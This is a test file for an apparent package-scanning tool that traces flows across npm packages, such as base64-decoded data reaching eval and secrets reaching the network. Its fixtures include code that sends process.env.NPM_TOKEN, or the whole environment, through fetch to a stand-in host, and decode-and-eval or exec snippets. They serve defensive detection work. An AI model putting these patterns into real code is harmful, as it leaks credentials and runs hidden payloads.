// What packages do together that none of them does alone: a release, and what it newly brings.
import { describe, expect, test } from 'vitest'
import { type Member, readTogether } from '../../src/facts/together.ts'

const encode = (text: string) => new TextEncoder().encode(text)

function member(name: string, files: Readonly<Record<string, string>>, manifest: object = {}): Member {
  const all = { 'package.json': JSON.stringify({ name, version: '1.0.0', ...manifest }), ...files }
  const packed = Object.entries(all).map(([path, text]) => ({ path, bytes: encode(text), executable: false }))
  return { name, tarball: { files: packed, oddities: [], unpackedBytes: 0 } }
}

const shown = (members: readonly Member[]) =>
  readTogether(members).flows.map(
    ({ source, subject, sink, file, line, reach }) => `${source} ${subject || '-'} ${sink} ${file}:${line} ${reach}`,
  )

const decoder = member('un-code', {
  'index.js': "module.exports = require('./low.js')",
  'low.js': "exports.open = (text) => Buffer.from(text, 'base64').toString()",
})
const runner = member(
  '@a/run',
  { 'lib/main.mjs': 'export const run = (line) => eval(line)' },
  { exports: './lib/main.mjs' },
)
const sender = member('send-it', { 'index.js': "module.exports = (x) => fetch('https://example.test/' + x)" })

describe('a release and what it brings', () => {
  test.each<[string, string, readonly Member[], readonly string[]]>([
    [
      'a decoder, run by the release',
      "const { open } = require('un-code')\neval(open(globalThis.data))",
      [decoder],
      ['decoded - evaluate index.js:2 import'],
    ],
    [
      'something that runs what the release decodes',
      "import { run } from '@a/run'\nrun(Buffer.from(globalThis.data, 'base64').toString())",
      [runner],
      ['decoded - evaluate index.js:2 import'],
    ],
    [
      'both: the release only hands it on',
      "const { open } = require('un-code')\nrequire('@a/run').run(open(globalThis.data))",
      [decoder, runner],
      ['decoded - evaluate node_modules/@a/run/lib/main.mjs:1 import'],
    ],
    [
      'a secret that the release reads and the other sends',
      "import send from 'send-it'\nsend(process.env.NPM_TOKEN)",
      [sender],
      ['secret NPM_TOKEN network index.js:2 import'],
    ],
    [
      'a file of it by its path',
      "const { open } = require('un-code/low')\neval(open(globalThis.data))",
      [decoder],
      ['decoded - evaluate index.js:2 import'],
    ],
    [
      'a decoder and a runner that are only handed over',
      "const texts = [globalThis.data]\ntexts.map(require('un-code').open).forEach(require('@a/run').run)",
      [decoder, runner],
      ['decoded - evaluate node_modules/@a/run/lib/main.mjs:1 import'],
    ],
    [
      'a sender that is handed secrets by a promise',
      "import send from 'send-it'\nPromise.resolve(process.env.NPM_TOKEN).then(send)",
      [sender],
      ['secret NPM_TOKEN network index.js:2 import'],
    ],
    [
      'nothing that goes together',
      "require('un-code').open(globalThis.data)\nrequire('@a/run')",
      [decoder, runner],
      [],
    ],
    ['a flow that the release has alone', "eval(atob(globalThis.data))\nrequire('un-code')", [decoder], []],
  ])('%s', (_, source, brought, flows) => {
    expect(shown([member('app', { 'index.js': source }), ...brought])).toEqual(flows)
  })

  test('what its command does is not what its import does, and what nothing leads to is nothing', () => {
    const use = "const { open } = require('un-code')\neval(open(globalThis.data))"
    const files = {
      'index.js': '',
      'cli.js': use,
      'old/index.js': use.replace('eval', 'require("child_process").exec'),
    }
    expect(shown([member('app', files, { bin: 'cli.js' }), decoder])).toEqual(['decoded - evaluate cli.js:2 bin'])
  })

  test('the steps say whose file they are in', () => {
    const [flow] = readTogether([
      member('app', { 'index.js': "import send from 'send-it'\nsend(process.env.NPM_TOKEN)" }),
      sender,
    ]).flows
    expect(flow?.steps).toEqual([
      'index.js:2 process.env.NPM_TOKEN',
      'node_modules/send-it/index.js:1 x',
      'node_modules/send-it/index.js:1 fetch(…)',
    ])
  })

  test('what the others do with each other is no doing of the release', () => {
    const use = "exports.go = (data) => require('@a/run').run(require('un-code').open(data))"
    const both = member('both', { 'index.js': use })
    const app = (source: string) => member('app', { 'index.js': source })
    expect(shown([app("require('both').go(globalThis.data)"), both, decoder, runner])).toEqual([])
    expect(shown([app(use), both, decoder, runner])).toHaveLength(1)
  })

  test('what they carry of others is not theirs', () => {
    const carrier = member('app', {
      'node_modules/x/index.js': "eval(require('un-code').open(globalThis.data))",
      'index.js': '',
    })
    expect(shown([carrier, decoder])).toEqual([])
  })
})

const decode = "Buffer.from(t, 'base64').toString()"
const interop = 'Object.defineProperty(exports, "__esModule", { value: true })'

describe('what a release gets of another package is followed', () => {
  test.each<[string, string, string]>([
    [
      'as a getter',
      "eval(require('dep').open(globalThis.x))",
      `${interop}
      var low_1 = require('./low')
      Object.defineProperty(exports, 'open', { enumerable: true, get: function () { return low_1.open } })`,
    ],
    [
      'by __exportStar',
      "eval(require('dep').open(globalThis.x))",
      `${interop}
      __exportStar(require('./low'), exports)`,
    ],
    [
      'key by key',
      "eval(require('dep').open(globalThis.x))",
      `var low = require('./low')
      Object.keys(low).forEach(function (key) {
        Object.defineProperty(exports, key, { enumerable: true, get: function () { return low[key] } })
      })`,
    ],
    [
      'by getters all at once',
      "eval(require('dep').open(globalThis.x))",
      `_export(exports, { open: function () { return open } })\nfunction open(t) { return ${decode} }`,
    ],
    [
      'on an object',
      "eval(require('dep').open(globalThis.x))",
      `const api = {}\napi.open = (t) => ${decode}\nmodule.exports = api`,
    ],
    [
      'on a function',
      "eval(require('dep').open(globalThis.x))",
      `module.exports = main\nfunction main() {}\nmain.open = (t) => ${decode}`,
    ],
    [
      'in an object of an object',
      "eval(require('dep').a.open(globalThis.x))",
      `module.exports = { a: { open: (t) => ${decode} } }`,
    ],
    [
      'on a prototype',
      "const D = require('dep')\neval(new D().open(globalThis.x))",
      `module.exports = D\nfunction D() {}\nD.prototype.open = function (t) { return ${decode} }`,
    ],
    [
      'in a field of a class',
      "const { D } = require('dep')\neval(new D().open(globalThis.x))",
      `exports.D = class { open = (t) => ${decode} }`,
    ],
    [
      'from a factory',
      "eval(require('dep')().open(globalThis.x))",
      `module.exports = () => { const api = { open: (t) => ${decode} }; return api }`,
    ],
    [
      'from a function of a function',
      "eval(require('dep').open('x')(globalThis.x))",
      `exports.open = (kind) => (t) => ${decode}`,
    ],
    [
      'from a wrapper',
      "eval(require('dep').open(globalThis.x))",
      `(function (root, factory) { if (typeof exports === 'object') factory(exports); else factory(root.dep = {}) })(
        this, function (exports) { exports.open = function (t) { return ${decode} } })`,
    ],
    [
      'from a wrapper that returns it',
      "eval(require('dep').open(globalThis.x))",
      `!function (e, f) { 'object' == typeof exports ? module.exports = f() : e.dep = f() }(
        this, function () { return { open: function (t) { return ${decode} } } })`,
    ],
    [
      'by a callback',
      "require('dep').open(globalThis.x, (error, text) => eval(text))",
      `exports.open = (t, done) => setImmediate(() => done(null, ${decode}))`,
    ],
    [
      'by a promise that eval is given',
      "require('dep').open(globalThis.x).then(eval)",
      `exports.open = async (t) => ${decode}`,
    ],
    [
      'by a function that eval is handed',
      "require('dep').open(globalThis.x, eval)",
      `exports.open = (t, run) => run(${decode})`,
    ],
    [
      'by an event of an instance',
      "const D = require('dep')\nnew D().on('text', (text) => eval(text))",
      `module.exports = class extends require('events') { open(t) { this.emit('text', ${decode}) } }`,
    ],
    [
      'by an event of an object',
      "require('dep').bus.on('text', (text) => eval(text))",
      `const bus = new (require('events'))()\nexports.bus = bus\nexports.open = (t) => bus.emit('text', ${decode})`,
    ],
    ['as a value', "eval(require('dep').text)", `const t = globalThis.x\nexports.text = ${decode}`],
    [
      'as an imported value',
      "import { text } from 'dep'\neval(text)",
      `const t = globalThis.x\nexports.text = ${decode}`,
    ],
    ['by the folder it lies in', "eval(require('../dep').open(globalThis.x))", "exports.open = require('./low').open"],
  ])('%s', (_, source, other) => {
    const dep = member('dep', { 'index.js': other, 'low.js': `exports.open = (t) => ${decode}` })
    expect(shown([member('app', { 'index.js': source }), dep])).toEqual([expect.stringContaining('decoded - evaluate')])
  })

  test('a class that is the default export', () => {
    const dep = member(
      'dep',
      { 'a.mjs': `export default class { open(t) { return ${decode} } }` },
      { exports: './a.mjs' },
    )
    const app = member(
      'app',
      { 'index.mjs': "import D from 'dep'\neval(new D().open(globalThis.x))" },
      { main: 'index.mjs' },
    )
    expect(shown([app, dep])).toEqual(['decoded - evaluate index.mjs:2 import'])
  })

  test('by a name of its own', () => {
    const imports = { '#text': { node: 'dep', default: './low.js' } }
    const app = member('app', { 'index.js': "eval(require('#text').open(globalThis.x))" }, { imports })
    const dep = member('dep', { 'index.js': `exports.open = (t) => ${decode}` })
    expect(shown([app, dep])).toEqual(['decoded - evaluate index.js:1 import'])
  })

  test('a file of data', () => {
    const app = member('app', { 'index.js': "eval(require('dep/a.json').text)" })
    expect(shown([app, member('dep', { 'a.json': '{}' })])).toEqual(['own-data json evaluate index.js:1 import'])
  })

  test('but not its manifest: everybody asks that for a version', () => {
    const app = member('app', { 'index.js': "eval(require('dep/package.json').version)" })
    expect(shown([app, member('dep', {})])).toEqual([])
  })
})

describe('hides nothing', () => {
  const use = "const { open } = require('un-code')\neval(open(globalThis.data))"

  test('a flow of the same kind that another package has alone', () => {
    const noise = member('noise', { 'index.js': 'eval(atob(globalThis.data))' })
    const far = member('far', {
      'index.js': "eval(require('./low').open(globalThis.data))",
      'low.js': "exports.open = (text) => Buffer.from(text, 'base64').toString()",
    })
    for (const other of [noise, far])
      expect(shown([member('app', { 'index.js': use }), other, decoder])).toEqual([
        'decoded - evaluate index.js:2 import',
      ])
  })

  test('many flows of another kind', () => {
    const many = Array.from({ length: 400 }, (_, at) => `send(process.env.NPM_TOKEN_${at})`)
    const app = member('app', { 'index.js': `import send from 'send-it'\n${many.join('\n')}\nsend(process.env)` })
    expect(shown([app, sender])).toContain('environment - network index.js:402 import')
  })

  test('a source of another package that comes first', () => {
    const app = member('app', { 'index.js': "fetch(require('old').env())\nrequire('send-it')(process.env)" })
    const old = member('old', { 'index.js': 'exports.env = () => ({ ...process.env })' })
    const flows = readTogether([app, old, sender]).flows.map(({ steps: [first] }) => first)
    expect(flows).toEqual(['index.js:2 process.env', 'node_modules/old/index.js:1 process.env'])
  })
})

describe('of an environment', () => {
  test.each<[string, string, string, readonly string[]]>([
    [
      'single variables are not all of it',
      "const { load } = require('dep')\nfetch(load(process.env).url)",
      'exports.load = (env) => ({ url: env.API_URL })',
      [],
    ],
    [
      'nor are those of one that is handed on',
      "const { env } = require('dep')\nfetch(env.API_URL)",
      'exports.env = { ...process.env }',
      [],
    ],
    [
      'one that is a secret is',
      "const { load } = require('dep')\nfetch(load(process.env).url)",
      'exports.load = (env) => ({ url: env.NPM_TOKEN })',
      ['environment - network index.js:2 import'],
    ],
    [
      'all of it is',
      "const { load } = require('dep')\nfetch(load(process.env).url)",
      'exports.load = (env) => ({ url: env.API_URL + JSON.stringify(env) })',
      ['environment - network index.js:2 import'],
    ],
  ])('%s', (_, source, other, flows) => {
    expect(shown([member('app', { 'index.js': source }), member('dep', { 'index.js': other })])).toEqual(flows)
  })
})

describe('hostile', () => {
  test('objects that hold themselves come to an end', () => {
    const names = Array.from({ length: 60 }, (_, at) => `api.m${at} = api`)
    const dep = member('dep', {
      'index.js': `const api = {}\n${names.join('\n')}\nmodule.exports = () => api\napi.f = module.exports`,
    })
    expect(shown([member('app', { 'index.js': "eval(require('dep')().m1.m2.m3.m4.m5)" }), dep])).toEqual([])
  })

  test('a file to blame is left out, whichever package it is in', () => {
    const app = member('app', { 'index.js': "eval(require('un-code').open(globalThis.data))" })
    const read: number[] = []
    const watch = { now: () => 0, gaveUp: false, remember: <T>(_: string, __: number, one: () => T) => one() }
    const readWithout = (blamed: readonly number[]) =>
      readTogether([app, decoder], {
        ...watch,
        blamed: blamed.map((index) => ({ index, why: 'timeout' as const })),
        announce: (index) => read.push(index),
      })
    expect(readWithout([])).toMatchObject({ flows: [{ sink: 'evaluate' }], unreadable: [] })
    const all = [...new Set(read)]
    expect(all).toEqual(all.map((_, index) => index))
    const blamed = all.map((index) => readWithout([index])).filter(({ unreadable }) => unreadable.length > 0)
    expect(
      blamed.map(({ flows, unreadable }) => [flows.length, ...unreadable.map(({ file, why }) => `${file} ${why}`)]),
    ).toEqual([
      [0, 'index.js timeout'],
      [0, 'node_modules/un-code/index.js timeout'],
      [0, 'node_modules/un-code/low.js timeout'],
    ])
  })

  test('packages that load each other come to an end', () => {
    const ring = Array.from({ length: 8 }, (_, at) =>
      member(`m${at}`, { 'index.js': `const n = require('m${(at + 1) % 8}')\nexports.f = (x) => n.f(n.f(x))` }),
    )
    expect(shown(ring)).toEqual([])
  })
})
